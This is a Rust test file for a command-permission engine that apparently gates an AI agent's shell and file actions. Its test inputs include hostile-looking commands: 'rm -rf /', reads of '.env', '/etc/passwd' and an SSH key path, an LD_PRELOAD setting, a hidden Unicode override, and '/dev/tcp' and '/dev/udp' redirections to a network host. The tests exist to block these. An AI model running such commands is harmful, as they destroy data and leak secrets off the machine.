//! What stands beside a command, shared cover, redirections, links, and what an explanation tells of commands.

use crate::fixture::{Call, context, path, rules};
use toolcell_permission::*;

type Texts = &'static [&'static str];

fn verdict(decision: &Decision) -> String {
    format!("{} {}", decision.behavior, decision.stage)
}

#[test]
fn allow_rules_share_a_script_out() {
    for (allow, text, expected) in [
        (&["execute(make:*)", "execute(npm run:*)"][..] as Texts, "make test && npm run build", "allow allow_rule"),
        (&["execute(make:*)"], "make test && npm run build", "ask default"),
        (&["execute(make:*)"], "ls && make test", "allow allow_rule"),
        (&["execute(make:*)"], "x=1", "ask default"),
        (&["execute"], "x=1", "allow allow_rule"),
        (&["execute"], "$1 push", "allow allow_rule"),
        (&["execute(*)"], "$1 push", "ask default"),
        (&["execute(make:*)"], "PATH=/workspace/bin make test", "ask default"),
        (&["execute(make:*)"], "NODE_ENV=test make test", "allow allow_rule"),
        (&["execute(make:*)"], "sudo make test", "ask default"),
        (&["execute(sudo make:*)"], "sudo make test", "allow allow_rule"),
        (&["execute(make:*)"], "timeout 5 make test", "allow allow_rule"),
        (&["execute(make:*)"], "bash -c 'make test'", "allow allow_rule"),
        (&["execute(make:*)"], "make test > out", "ask default"),
        (&["execute(make:*)", "write_file(/workspace/**)"], "make test > out", "allow allow_rule"),
        (&["execute(make:*)", "write_file"], "make test > $1", "allow allow_rule"),
        (&["execute(make:*)", "write_file(/workspace/**)"], "make test > /etc/out", "ask default"),
        (&["execute(make:*)", "write_file(/workspace/**)"], "make test > $1", "ask default"),
        (&["execute(make:*)"], "make test < in", "ask default"),
        (&["execute(make:*)", "read_file(/workspace/in)"], "make test < in", "allow allow_rule"),
        (&["execute(make:*)"], "make test 2>/dev/null", "allow allow_rule"),
        (&["write_file(/workspace/**)"], "git status > out", "allow allow_rule"),
        (&["execute(make:*)", "write_file"], "cat < in > out", "allow allow_rule"),
    ] {
        let decision = Call::shell(text).decide(&context(Mode::Default, rules(allow, &[], &[])));
        assert_eq!(verdict(&decision), expected, "{allow:?} {text}");
    }
}

#[test]
fn what_a_call_sets_counts() {
    for (name, reads, allowed) in [
        ("NODE_ENV", "allow read_only", "allow allow_rule"),
        ("PATH", "ask default", "ask default"),
        ("LD_PRELOAD", "ask default", "ask default"),
    ] {
        let context = context(Mode::Default, rules(&["execute(make:*)"], &[], &[]));
        assert_eq!(verdict(&Call::shell("git status").with_env(name).decide(&context)), reads, "{name}");
        assert_eq!(verdict(&Call::shell("make test").with_env(name).decide(&context)), allowed, "{name}");
    }
}

#[test]
fn without_the_list_a_rule_for_files_does_not_run_a_command() {
    let context = context(Mode::Default, rules(&["write_file"], &[], &[])).with_read_only(ReadOnlyPolicy::None);
    assert_eq!(verdict(&Call::shell("git status > out").decide(&context)), "ask default");
}

#[test]
fn rules_of_file_tools_look_at_what_commands_do_with_files() {
    for (ask, deny, text, expected) in [
        (&[][..] as Texts, &["read_file(/workspace/private/**)"][..] as Texts, "cat private/x", "deny deny_rule"),
        (&[], &["read_file(/workspace/private/**)"], "cat src/x", "allow read_only"),
        (&[], &["read_file(/workspace/private/**)"], "cat p*/x", "ask ask_rule"),
        (&[], &["read_file(/workspace/private/**)"], "cd private; cat x", "deny deny_rule"),
        (&[], &["read_file(/workspace/private/**)"], "wc -l < private/x", "deny deny_rule"),
        (&[], &["read_file(/workspace/private/**)"], "touch private/x", "allow bypass"),
        (&[], &["write_file(/workspace/private/**)"], "touch private/x", "deny deny_rule"),
        (&[], &["write_file(/workspace/private/**)"], "echo x > private/x", "deny deny_rule"),
        (&[], &["delete_file(/workspace/private/x)"], "rm private/x", "deny deny_rule"),
        (&[], &["delete_file(/workspace/private/x)"], "rm -r private", "ask ask_rule"),
        (&["write_file(/workspace/private/**)"], &[], "touch private/x", "ask ask_rule"),
        (&[], &["write_file"], "touch private/x", "allow bypass"),
    ] {
        let decision = Call::shell(text).decide(&context(Mode::Bypass, rules(&[], ask, deny)));
        assert_eq!(verdict(&decision), expected, "{ask:?} {deny:?} {text}");
    }
}

#[test]
fn accept_edits_takes_scripts_of_edits_inside() {
    for (text, expected) in [
        ("mkdir -p src && touch src/a", "allow accept_edits"),
        ("cat /etc/passwd", "allow accept_edits"),
        ("cat /etc/passwd > a", "allow accept_edits"),
        ("sed -i 's/a/b/' a.txt", "allow accept_edits"),
        ("rm a; ls", "allow accept_edits"),
        ("cp a /etc/a", "ask default"),
        ("cp /etc/a a", "ask default"),
        ("touch a && make", "ask default"),
        ("touch $1", "ask default"),
        ("touch a > /etc/b", "ask default"),
        ("PATH=/workspace touch a", "ask default"),
        ("sudo touch a", "ask default"),
        ("x=1", "ask default"),
    ] {
        let decision = Call::shell(text).decide(&context(Mode::AcceptEdits, RuleSet::default()));
        assert_eq!(verdict(&decision), expected, "{text}");
        assert_ne!(
            Call::code("bash", text).decide(&context(Mode::AcceptEdits, RuleSet::default())).behavior,
            Behavior::Allow
        );
    }
}

#[test]
fn what_a_path_of_a_command_really_is_counts() {
    let linked = |text: &str, logical: &str, real: &str, context: &Context| {
        let call = Call::shell(text);
        assert!(call.named().contains(&path(logical)), "{text}: {:?}", call.named());
        let lead = |named: ContainerPath| if named == path(logical) { path(real) } else { named };
        let real: Vec<_> = call.named().into_iter().map(lead).collect();
        verdict(&call.decide_resolved(&real, context))
    };
    let edits = context(Mode::AcceptEdits, RuleSet::default());
    assert_eq!(linked("touch link", "/workspace/link", "/workspace/a", &edits), "allow accept_edits");
    assert_eq!(linked("touch link", "/workspace/link", "/etc/a", &edits), "ask default");
    assert_eq!(linked("rm dir/*.txt", "/workspace/dir", "/etc", &edits), "ask default");
    let bypass = context(Mode::Bypass, rules(&[], &[], &["read_file(/workspace/private/**)"]));
    assert_eq!(linked("cat link", "/workspace/link", "/workspace/private/x", &bypass), "deny deny_rule");
    assert_eq!(linked("cat link", "/workspace/link", "/home/agent/.ssh/id_x", &bypass), "ask tool_check");
    assert_eq!(linked("cat dir/*", "/workspace/dir", "/workspace/private", &bypass), "ask ask_rule");
    let writes = context(Mode::Default, rules(&["execute(make:*)", "write_file(/workspace/**)"], &[], &[]));
    assert_eq!(linked("make > link", "/workspace/link", "/workspace/a", &writes), "allow allow_rule");
    assert_eq!(linked("make > link", "/workspace/link", "/etc/a", &writes), "ask default");
}

#[test]
fn more_paths_than_are_looked_up_are_no_plain_edit() {
    let touch = |count: usize| {
        let names: Vec<String> = (0..count).map(|number| format!("f{number}")).collect();
        Call::shell(&format!("touch {}", names.join(" ")))
    };
    let edits = context(Mode::AcceptEdits, RuleSet::default());
    for (count, expected) in [
        (MAX_COMMAND_PATHS - 1, "allow accept_edits"),
        (MAX_COMMAND_PATHS, "allow accept_edits"),
        (MAX_COMMAND_PATHS + 1, "ask default"),
    ] {
        let call = touch(count);
        assert_eq!(call.named().len(), count.min(MAX_COMMAND_PATHS));
        assert_eq!(verdict(&call.decide_resolved(&[], &edits)), expected, "{count}");
    }
}

#[test]
fn shell_code_is_also_a_command_and_other_code_is_opaque() {
    for (deny, language, text, expected) in [
        (&["execute(git push:*)"][..] as Texts, "bash", "git push", "deny deny_rule"),
        (&["execute(git push:*)"], "bash", "git status", "allow bypass"),
        (&["execute"], "bash", "git status", "deny deny_rule"),
        (&["run_code"], "bash", "git status", "deny deny_rule"),
        (&["execute(git push:*)"], "bash", "$1 push", "ask ask_rule"),
        (&["execute(git push:*)"], "python", "print(1)", "ask ask_rule"),
        (&["execute"], "python", "print(1)", "allow bypass"),
        (&[], "bash", "rm -rf /", "ask tool_check"),
        (&[], "bash", "cat .env", "ask tool_check"),
        (&[], "python", "open('.env')", "allow bypass"),
    ] {
        let decision = Call::code(language, text).decide(&context(Mode::Bypass, rules(&[], &[], deny)));
        assert_eq!(verdict(&decision), expected, "{deny:?} {language} {text}");
    }
    let explore = context(Mode::Explore, RuleSet::default());
    assert_eq!(verdict(&Call::code("bash", "ls").decide(&explore)), "deny explore");
    let all = context(Mode::Default, rules(&["execute(make:*)", "run_code(make:*)"], &[], &[]));
    assert_eq!(verdict(&Call::code("bash", "make").decide(&all.with_read_only(ReadOnlyPolicy::All))), "ask default");
}

#[test]
fn fields_are_matched_by_name() {
    for (allow, deny, expected) in [
        (&["deploy(env=prod,region=eu-*)"][..] as Texts, &[][..] as Texts, "allow allow_rule"),
        (&["deploy(env=prod,region=us-*)"], &[], "ask default"),
        (&["deploy"], &["deploy(env=prod)"], "deny deny_rule"),
        // A pattern that does not fit the tool's fields.
        (&["deploy"], &["deploy(stage=prod)"], "deny deny_rule"),
        (&["deploy(stage=prod)"], &[], "ask default"),
    ] {
        let call = Call::deploy(&[("env", "prod"), ("region", "eu-1")]);
        let decision = call.decide(&context(Mode::Default, rules(allow, &[], deny)));
        assert_eq!(verdict(&decision), expected, "{allow:?} {deny:?}");
    }
}

#[test]
fn of_the_rules_used_the_first_is_reported() {
    let rule = |source, text| Rule::parse(Behavior::Allow, source, text).unwrap();
    let rules: RuleSet = [
        rule(RuleSource::Session, "execute(make:*)"),
        rule(RuleSource::User, "execute(npm run:*)"),
        rule(RuleSource::Policy, "execute(cargo:*)"),
    ]
    .into_iter()
    .collect();
    let decision = Call::shell("make && npm run build").decide(&context(Mode::Default, rules));
    let reported = ReportedRule { rule: "execute(npm run:*)".into(), source: RuleSource::User };
    assert_eq!(decision.rule, Some(reported));
}

#[test]
fn suggestions_are_for_what_no_rule_covers() {
    let suggested = |call: &Call, allow: Texts| {
        let decision = call.decide(&context(Mode::Default, rules(allow, &[], &[])));
        decision.suggestions.into_iter().map(|suggestion| suggestion.rule).collect::<Vec<_>>()
    };
    assert_eq!(suggested(&Call::shell("deploy prod"), &[]), ["execute(deploy prod)"]);
    assert_eq!(suggested(&Call::shell("ls && deploy prod"), &[]), ["execute(deploy prod)"]);
    assert_eq!(suggested(&Call::shell("make x && deploy prod"), &["execute(make:*)"]), ["execute(deploy prod)"]);
    let files = suggested(&Call::shell("deploy prod > out/a"), &["execute(deploy:*)"]);
    assert_eq!(files, ["write_file(/workspace/out/a)", "write_file(/workspace/out/**)", "write_file"]);
    for text in ["deploy prod > out", "$1 prod", "PATH=/x deploy", "rm -rf /", "x=1"] {
        assert_eq!(suggested(&Call::shell(text), &[]), Vec::<String>::new(), "{text}");
    }
    assert_eq!(suggested(&Call::code("bash", "deploy prod"), &[]), Vec::<String>::new());
    let asked = Call::shell("deploy prod").decide(&context(Mode::Default, rules(&[], &["execute"], &[])));
    assert_eq!(asked.suggestions, []);
    let silent = Call::shell("deploy prod").decide(&context(Mode::DontAsk, RuleSet::default()));
    assert_eq!((silent.behavior, silent.suggestions), (Behavior::Deny, Vec::new()));
    let json = serde_json::to_value(Call::shell("deploy prod").decide(&context(Mode::Default, RuleSet::default())));
    assert_eq!(json.unwrap()["suggestions"][0]["rule"], "execute(deploy prod)");
}

#[test]
fn an_explanation_looks_at_every_command() {
    let call = Call::shell("git status && make test > out; $1");
    let explained = call.explain(&context(Mode::AcceptEdits, rules(&["execute(make:*)"], &[], &["execute(rm:*)"])));
    let details = |stage: Stage| {
        let step = explained.trace.iter().find(|step| step.stage == stage).unwrap();
        step.details.join("\n")
    };
    assert!(details(Stage::DenyRule).contains("`make test`: deny rules do not see what it runs"));
    assert!(details(Stage::AskRule).starts_with("opaque: "));
    let covered = details(Stage::AllowRule);
    assert!(
        covered.contains("`git status`: only reads\n`make test`: allowed by the rule `execute(make:*)`\n"),
        "{covered}"
    );
    assert!(covered.contains("`make test` writes `/workspace/out`: no allow rule covers it"), "{covered}");
    assert!(details(Stage::AcceptEdits).contains("`make test`: neither reading nor a plain file command"));
    let reading = details(Stage::ReadOnly);
    assert!(reading.contains("`git status`: only reads\n`make test`: not read-only: a redirection"), "{reading}");
    assert!(Call::shell("ls").decide(&context(Mode::Default, RuleSet::default())).trace.is_empty());
}

#[test]
fn messages_say_which_command_and_why() {
    let message = |text: &str, rules: RuleSet, mode| Call::shell(text).decide(&context(mode, rules)).message;
    assert_eq!(
        message("ls && git push origin", rules(&[], &[], &["execute(git push:*)"]), Mode::Bypass),
        "`execute` of `git push origin` is denied by the rule `execute(git push:*)`. Trying again will not help; find \
         another way."
    );
    assert_eq!(
        message("git push \u{202e}x", rules(&[], &["execute(git push:*)"], &[]), Mode::Bypass),
        "A person must approve `execute` of `git push \\u{202e}x`: the rule `execute(git push:*)` says so."
    );
    assert!(message("cat .en?", RuleSet::default(), Mode::Bypass).contains("`/workspace/.en?`"));
    let long = format!("make {}", "x".repeat(100_000));
    assert!(message(&long, rules(&[], &[], &["execute(make:*)"]), Mode::Bypass).len() < 1000);
}

#[test]
fn a_program_that_nobody_knows_may_read_its_operands() {
    let deny = context(Mode::Bypass, rules(&[], &[], &["read_file(/workspace/private/**)"]));
    for (command, expected) in [
        ("cat private/key", Behavior::Deny),
        ("frobnicate private/key", Behavior::Deny),
        ("frobnicate --in=private/key", Behavior::Deny),
        ("cp a private/key", Behavior::Allow),
        ("echo private/key", Behavior::Allow),
        ("frobnicate > private/key", Behavior::Allow),
    ] {
        assert_eq!(Call::shell(command).decide(&deny).behavior, expected, "{command}");
    }
}

#[test]
fn what_a_command_reads_is_known_or_it_does_not_only_read() {
    let plain = context(Mode::Default, rules(&[], &[], &[]));
    for (command, expected) in [
        ("wc -l < notes", "allow read_only"),
        ("cat < $x", "ask default"),
        ("cat < \"$x\"", "ask default"),
        ("cat < *.txt", "ask default"),
        ("cat < /dev/tcp/192.0.2.1/80", "ask default"),
        ("ls > /dev/udp/192.0.2.1/80", "ask default"),
        ("exec 3<> /dev/tcp/192.0.2.1/80", "ask default"),
    ] {
        assert_eq!(verdict(&Call::shell(command).decide(&plain)), expected, "{command}");
    }
}
